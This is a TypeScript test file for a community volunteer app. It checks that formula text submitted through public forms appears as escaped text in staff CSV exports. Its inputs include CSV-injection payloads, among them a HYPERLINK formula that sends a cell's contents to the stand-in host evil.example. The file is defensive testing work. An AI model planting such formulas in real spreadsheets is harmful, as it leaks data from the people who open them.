import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildEvent } from './factories/event.ts';
import { buildVolunteerForm, volunteerChoices } from './factories/volunteer.ts';
import { createClient, type TestClient } from './support/http-client.ts';
import { createTestApp, type TestApp } from './support/test-app.ts';

// What a visitor types into a public form reaches the staff's spreadsheet:
// no text there may run as a formula when the export is opened.
let testApp: TestApp;
let admin: TestClient;
let choices: Awaited<ReturnType<typeof volunteerChoices>>;

const hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"詳細")';

beforeAll(async () => {
  testApp = await createTestApp();
  admin = createClient(testApp);
  await admin.signIn('admin@example.jp');
  choices = await volunteerChoices(admin);
});
afterAll(async () => testApp.close());

async function csvRows(response: Response): Promise<string[][]> {
  expect(response.status).toBe(200);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  return parse(text.slice(1), { relax_column_count: true }) as string[][];
}

async function submit(path: string, form: Record<string, string>): Promise<Response> {
  const visitor = createClient(testApp);
  const page = await visitor.get(path);
  const key = (await page.text()).match(/name="submissionKey" value="([^"]+)"/)?.[1];
  return visitor.post(path, key ? { submissionKey: key, ...form } : form);
}

describe('exports of what the public typed', () => {
  it('shows a help request sent with formulas as text in the requests export', async () => {
    const sent = await submit('/help/request', {
      residentName: hyperlink, residentPhone: '0166-33-4444', residentDistrictId: choices.district('豊岡'), referrerType: 'self',
      helpTypeId: choices.helpType('囲碁・将棋の相手'), description: '\t+1+1', consent: 'on',
    });
    expect(sent.status).toBe(303);
    const row = (await csvRows(await admin.get('/staff/help-requests.csv'))).find((r) => r[1]!.includes('HYPERLINK'))!;
    expect(row[1]).toBe(`'${hyperlink}`);
    expect(row[5]).toBe('0166-33-4444');
    expect(row[8]).toBe("'+1+1");
  });

  it('shows a volunteer application sent with formulas as text in the volunteers export', async () => {
    const form = buildVolunteerForm(choices.district('豊岡'), choices.helpType('ペットの散歩'), { name: '＝1+1', address: '@SUM(1)' });
    const sent = await submit('/volunteers/apply', { ...form, consent: 'on' } as Record<string, string>);
    expect(sent.status).toBe(303);
    const row = (await csvRows(await admin.get('/staff/volunteers.csv'))).find((r) => r[0]!.endsWith('1+1'))!;
    expect(row[0]).toBe("'＝1+1");
    expect(row[3]).toBe('0166-23-0742');
    expect(row[6]).toBe("'@SUM(1)");
  });

  it('shows an event application sent with formulas as text in the participants export, and a formula title as text in the events list', async () => {
    const event = await buildEvent(testApp, { title: '-2+3', questions: [{ id: 'diet', label: '食事の配慮', kind: 'text', options: [], required: false }] });
    const sent = await submit(`/events/${event.id}/apply`, {
      name: '+SUM(1)', nameReading: 'もうしこみ たろう', organisation: '-1+1', role: 'coordinator', prefecture: '北海道', municipality: '旭川市',
      email: 'formula@example.jp', phone: '0166-23-0742', consent: 'on', q_diet: '=1+1',
    });
    expect(sent.status).toBe(303);
    const [header, ...rows] = await csvRows(await admin.get(`/staff/events/${event.id}/participants.csv`));
    const row = rows.find((r) => r[8] === 'formula@example.jp')!;
    expect(row[2]).toBe("'+SUM(1)");
    expect(row[4]).toBe("'-1+1");
    expect(row[header!.indexOf('食事の配慮')]).toBe("'=1+1");
    const listed = (await csvRows(await createClient(testApp).get('/events/export.csv'))).find((r) => r[4]!.includes('2+3'))!;
    expect(listed[4]).toBe("'-2+3");
  });
});
